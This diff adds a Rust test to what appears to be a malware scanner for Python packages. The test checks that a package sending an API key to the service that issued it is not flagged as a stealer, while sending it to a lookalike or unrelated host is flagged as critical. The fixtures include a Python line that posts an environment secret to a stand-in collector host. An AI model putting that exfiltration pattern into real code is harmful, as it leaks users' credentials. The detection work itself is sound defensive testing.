@@ -419,3 +419,32 @@ fn build_backend_hooks_run_at_install() {
     }
     assert!(wrong.is_empty(), "{wrong:#?}");
 }
+
+/// A client that sends its own service's key to that service at import (an API client listing
+/// its models) is network at load, not a stealer; the same key sent to any other host, or to a
+/// host that only starts with the vendor's name, is one (tester t11 b21). Vendor names are
+/// spelled under `example.invalid` here: `EXAMPLE_API_KEY` belongs to `*.example.invalid`.
+#[test]
+fn a_key_sent_to_the_service_that_issued_it_is_not_stolen() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let read = "import os, requests\nKEY = os.environ.get('EXAMPLE_API_KEY')\n";
+    let cases = [
+        ("own", "requests.get('https://api.example.invalid/v1/models', headers={'Authorization': 'Bearer ' + str(KEY)}, timeout=2)\n", None),
+        ("lookalike", "requests.get('https://example.invalid.c2.invalid/v1/models', headers={'Authorization': 'Bearer ' + str(KEY)})\n", Some(Severity::Critical)),
+        ("elsewhere", "requests.post('https://collector.c2.invalid/u', data=str(KEY))\n", Some(Severity::Critical)),
+        ("two-hosts", "requests.get('https://api.example.invalid/v1/models')\nrequests.post('https://collector.c2.invalid/u', data=str(KEY))\n", Some(Severity::Critical)),
+    ];
+    let mut wrong = Vec::new();
+    for (case, send, want) in cases {
+        let src = format!("{read}{send}");
+        let p = package(dir.path(), case, "__init__.py", &src);
+        let r = scan_file(&p, BudgetLimits::default());
+        if worst(&r, "python-credential-stealer") != want {
+            wrong.push(format!("{case}: want {want:?}\n{src}\n{:#?}", summary(&r)));
+        }
+        if case == "own" && worst(&r, "python-network-at-load") != Some(Severity::Medium) {
+            wrong.push(format!("{case}: network at load\n{:#?}", summary(&r)));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
+}
